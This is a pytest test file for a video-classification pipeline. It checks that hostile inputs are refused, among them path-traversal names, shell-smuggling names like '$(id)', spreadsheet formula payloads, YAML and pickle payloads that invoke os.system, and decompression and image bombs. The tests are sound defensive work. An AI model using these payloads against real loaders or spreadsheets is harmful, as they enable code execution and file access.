"""Files and names that mean harm are refused, or do none."""

import contextlib
import csv
import io
import os
import pickle
import resource
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import pytest
import simplejpeg
import torch
import yaml

from pipeline.cli import new_videos
from pipeline.clips import frame_store, jpeg, tar_shards, transforms
from pipeline.clips.frame_store import FrameStore
from pipeline.core import frame_index, npy, params, registry
from pipeline.core.errors import UserError
from pipeline.core.manifest import DatasetConfig, Manifest, VideoRecord
from pipeline.core.names import check_class, safe_path
from pipeline.predictions import result_pickle
from pipeline.pretrained import safe_pickle, weight_file
from tests.support import damage, inference
from tests.support.peers import Call

FORMULAS = [
    "=1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.b/?"&A1)',
    "+SUM(A1:A9)",
    "-2+3+cmd|'x'!A",
    "@SUM(1)",
    "=a.B(1)",
]
HARMLESS = ["-", "+1", "@home", "- Copy (2)", "a=b(c)", "=)", "-5 C", "+1 (thumb up)"]


@pytest.mark.parametrize("name", ["../../evil", "..", "/etc/passwd", "tsm.py", "os", "_ranking", "a/b", "tsm\0", ""])
@pytest.mark.parametrize("kind", ["models", "losses", "datasets", "pretrained/importers"])
def test_a_member_of_an_open_set_is_a_file_of_its_folder(kind: str, name: str):
    with pytest.raises(UserError, match="there is no "):
        registry.find(kind, name)


@pytest.mark.parametrize("name", ["../x", "..", "a/b", "/etc/x", ".hidden", "", "a b", "-rf", "$(id)", "x;id"])
def test_a_models_name_is_that_of_a_folder(name: str):
    from pipeline.check import problems

    assert any("a model's name is that of its folder" in line for line in problems({"models": {name: {}}}, Path("p")))


@pytest.mark.parametrize(
    "path", ["../a.mp4", "a/../../b.mp4", "/etc/passwd", "C:\\a.mp4", "..\\a.mp4", "a\0.mp4", "a\nb"]
)
def test_a_path_stays_in_the_corpus(path: str):
    with pytest.raises(UserError, match=r"leaves the corpus' root|control character"):
        safe_path(path, "labels.csv, line 2")


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_is_no_name_of_a_class_or_video(name: str):
    with pytest.raises(UserError, match="formula"):
        check_class(name, "labels.csv")
    with pytest.raises(UserError, match="formula"):
        safe_path(name, "labels.csv")
    records = [VideoRecord(f"{name}{split}", split, f"{split}.mp4", "x", "1-x") for split in ("train", "val", "test")]
    with pytest.raises(UserError, match=r"formula.*3 such rows"):
        Manifest.from_records(records, ["x"])


@pytest.mark.parametrize("name", HARMLESS)
def test_names_that_only_begin_as_formulas_do_are_names(name: str):
    check_class(name, "labels.csv")
    assert safe_path(name, "labels.csv") == name
    (row,) = csv.reader(io.StringIO(f'"{name}"'))
    assert row == [name]


@pytest.mark.parametrize(
    "text",
    [
        "dataset: !!python/object/apply:os.system ['touch marker']",
        "dataset: !!python/name:os.system",
        "dataset: !<tag:yaml.org,2002:python/object/new:os.system> ['touch marker']",
        "dataset: {root: 2001-99-99}",
        "dataset: !!timestamp x",
        f"dataset: {'9' * 5000}",
        f"dataset: {'[' * 1200}",
        "dataset: *nobody",
        "\0",
        "- a\nb: c",
    ],
    ids=lambda text: text[:40].replace("\0", "null"),
)
def test_yaml_runs_nothing(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "params.yaml").write_text(text)
    with pytest.raises(UserError, match=r"params\.yaml"):
        params.load("dataset", DatasetConfig)
    assert [file.name for file in tmp_path.iterdir()] == ["params.yaml"]


def test_a_yaml_bomb_is_small():
    lines = ["a0: &a0 x", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 30))]
    assert len(yaml.safe_load("\n".join(lines))) == 30  # 9 ** 29 strings, each list of which is there once


@pytest.mark.parametrize("length", [2, 100, 1 << 40, (1 << 64) - 1])
@pytest.mark.parametrize(
    "header", ['{"a": {"dtype": "F32", "shape": [%d], "data_offsets": [0, %d]}}', "{}", "[]", '{"a": 1}', "\0"]
)
def test_a_safetensors_header_that_lies_is_refused(length: int, header: str, tmp_path: Path):
    text = (header % (1 << 50, 1 << 52) if "%" in header else header).encode()
    (path := tmp_path / "w.safetensors").write_bytes(length.to_bytes(8, "little") + b"{" + text + bytes(64))
    with pytest.raises(UserError, match=r"w\.safetensors"):
        weight_file.read(path)


def test_a_checkpoint_that_asks_for_other_code_is_refused(tmp_path: Path):
    inference.write_model(tmp_path / "net", 0)
    for changes, said in (
        ({"arch": "../../evil"}, "there is no '../../evil'"),
        ({"options": {"backbone": "hf-hub:evil/net"}}, "no backbone 'hf-hub:evil/net'"),
        ({"options": {"backbone": "resnet10t", "evil": 1}}, "there is no such option"),
        ({"clip": None}, "must be a mapping"),
    ):
        read = inference.Checkpoint.read(tmp_path / "net")
        kept = read.recipe
        inference.Checkpoint(read.weights, {**kept, **changes}, read.classes, read.input).write(tmp_path / "evil")
        with pytest.raises((UserError, ValueError), match=said):
            inference.load_predictor((tmp_path, None), name="evil")


@pytest.mark.parametrize("shape", ["(1 << 62,)", "(-1,)", "(2**63, 2)", "'a'", "(9999999999999999,)", "None"])
def test_a_header_of_an_array_that_lies_is_an_error(shape: str, tmp_path: Path):
    header = f"{{'descr': '<f2', 'fortran_order': False, 'shape': {shape}}}".ljust(117) + "\n"
    (path := tmp_path / "a.npy").write_bytes(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode())
    with pytest.raises(ValueError, match=r"\w+: "):
        npy.read(path)


def test_an_array_of_objects_runs_nothing(tmp_path: Path):
    np.save(tmp_path / "a.npy", np.array([Call(os.system, f"touch {tmp_path / 'marker'}")], dtype=object))
    with pytest.raises(ValueError, match=r"allow_pickle|Python objects"):
        npy.read(tmp_path / "a.npy")
    np.savez(tmp_path / "b.npy", a=np.zeros(2))
    with pytest.raises(ValueError, match="an archive"):
        npy.read(tmp_path / "b.npy.npz")
    assert not (tmp_path / "marker").exists()


def bomb(width: int, height: int) -> bytes:
    """A small JPEG whose header says that it is large."""
    small = simplejpeg.encode_jpeg(np.zeros((16, 16, 3), np.uint8))
    start = small.index(b"\xff\xc0") + 5
    return small[:start] + height.to_bytes(2, "big") + width.to_bytes(2, "big") + small[start + 4 :]


@pytest.mark.parametrize("size", [(65_500, 65_500), (65_500, 1_100), (8_193, 8_192)])
def test_a_jpeg_bomb_is_refused_before_memory_is_taken(size: tuple[int, int]):
    with pytest.raises(ValueError, match="are more than a frame has"):
        jpeg.decode(bomb(*size))
    with pytest.raises(ValueError, match="are more than a frame has"):
        transforms.decode([bomb(*size)], None)


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.DIRTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE])
def test_a_tar_with_links_and_devices_is_refused(kind: bytes, tmp_path: Path):
    with tarfile.open(tmp_path / "a.tar", "w") as tar:
        entry = tarfile.TarInfo("x.mp4/000000.jpg")
        entry.type, entry.linkname = kind, "/etc/passwd"
        tar.addfile(entry)
    with pytest.raises(UserError, match=r"a\.tar is damaged.*is no file"):
        list(tar_shards.videos(tmp_path / "a.tar", {"x.mp4": 1}))


@pytest.mark.parametrize("name", ["../../evil/000000.jpg", "/etc/evil/000000.jpg"])
def test_a_tar_that_leaves_its_folder_writes_nothing(name: str, tmp_path: Path):
    with tarfile.open(tmp_path / "a.tar", "w") as tar:
        entry = tarfile.TarInfo(name)
        entry.size = 3
        tar.addfile(entry, io.BytesIO(b"abc"))
    before = sorted(tmp_path.parent.rglob("*"))
    with pytest.raises(UserError, match=r"a\.tar is damaged"):
        list(tar_shards.videos(tmp_path / "a.tar", {"x.mp4": 1}))
    assert sorted(tmp_path.parent.rglob("*")) == before


@pytest.mark.parametrize("offset", [0, 1, 12, 2**31, 2**32 - 1])
def test_offsets_of_an_lmdb_value_stay_in_it(packed, offset: int):
    frame = simplejpeg.encode_jpeg(np.zeros((16, 16, 3), np.uint8))
    root = packed({"x.mp4": [frame, frame]}).root
    value = bytearray(frame_store.encode([frame, frame], 16, 16))
    value[16:20] = offset.to_bytes(4, "little")
    damage.replace_shard(root, [("x.mp4", bytes(value))])
    with pytest.raises(UserError, match=r"a\.lmdb is damaged"):
        FrameStore(root).read("x.mp4", [0, 1])


@pytest.mark.parametrize(
    "name", ["http://127.0.0.1:9/a.mp4", "rtmp://a/b", "concat:a.mp4|b.mp4", "pipe:0", "data:video/mp4;base64,AA", "-i"]
)
def test_predict_takes_files_and_no_addresses(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UserError, match="there is no such file or folder"):
        new_videos.found([name])


def test_huge_sizes_in_a_file_of_torch_end_in_a_message(tmp_path: Path):
    torch.save({"a": torch.zeros(4)}, path := tmp_path / "w.pth", _use_new_zipfile_serialization=False)
    content = path.read_bytes().replace(b"K\x04", b"J\xff\xff\xff\x7f")
    path.write_bytes(content)
    with pytest.raises(UserError, match=r"w\.pth"):
        weight_file.read(path)


def memory_of(read, *arguments) -> int:
    """Bytes by which this process' most memory has grown in a call."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with contextlib.suppress(UserError):
        read(*arguments)
    return 1024 * (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"\x80\x02]r\xff\xff\xff\x3f.", id="a table of what is kept"),
        pytest.param(b"]p1999999999\n.", id="the same in text"),
        pytest.param(b"\x80\x05\x95" + (1 << 34).to_bytes(8, "little") + b"N.", id="a frame"),
        pytest.param(b"\x80\x05\x96" + (1 << 34).to_bytes(8, "little") + b"N.", id="a bytearray"),
        pytest.param(b"\x80\x05\x8e" + (1 << 34).to_bytes(8, "little") + b"N.", id="bytes"),
    ],
)
def test_a_pickle_of_few_bytes_takes_little_memory(content: bytes, tmp_path: Path):
    (path := tmp_path / "w.pkl").write_bytes(content)
    with pytest.raises(UserError, match="no pickle, or a damaged one"):
        safe_pickle.load_arrays(path)
    assert memory_of(safe_pickle.load_arrays, path) < 100 << 20


def test_lists_of_one_another_end(tmp_path: Path):
    nested: list[object] = [1.0]
    for _ in range(60):
        nested = [nested] * 8
    (path := tmp_path / "w.pkl").write_bytes(pickle.dumps(nested))
    read = safe_pickle.load_arrays(path)
    assert read[0] is read[7]


def test_a_tensor_that_is_larger_than_its_data_takes_no_memory(tmp_path: Path):
    huge = torch.zeros(1).expand(1 << 20, 1 << 20)
    torch.save({"a": huge}, path := tmp_path / "w.pth")
    with pytest.raises(UserError, match="holds no tensors"):
        weight_file.read(path)
    (pickled := tmp_path / "r.pkl").write_bytes(pickle.dumps([huge]))
    with pytest.raises(UserError, match="larger than its data"):
        result_pickle.read(pickled)
    torch.save({"a": torch.ones(1).expand(3)}, path)
    assert weight_file.read(path).tensors["a"].tolist() == [1, 1, 1]


def test_a_zip_bomb_is_refused(tmp_path: Path):
    with zipfile.ZipFile(tmp_path / "w.pth", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", bytes(1 << 27))
    assert (tmp_path / "w.pth").stat().st_size < 1 << 18
    with pytest.raises(UserError, match=r"w\.pth is a ZIP that unpacks to 134,217,728 bytes"):
        weight_file.read(tmp_path / "w.pth")


@pytest.mark.parametrize("shard", ["../../evil", "/etc/passwd", "", ".", "a/b", "9" * 5000])
def test_a_shard_lies_in_the_folder_of_its_index(shard: str, tmp_path: Path):
    (path := tmp_path / "index.tsv").write_text(f"video\tshard\tframes\twidth\theight\nx.mp4\t{shard}\t1\t1\t1\n")
    with pytest.raises(UserError, match=r"index\.tsv, line 2: .* is no shard"):
        frame_index.read_packed(path)
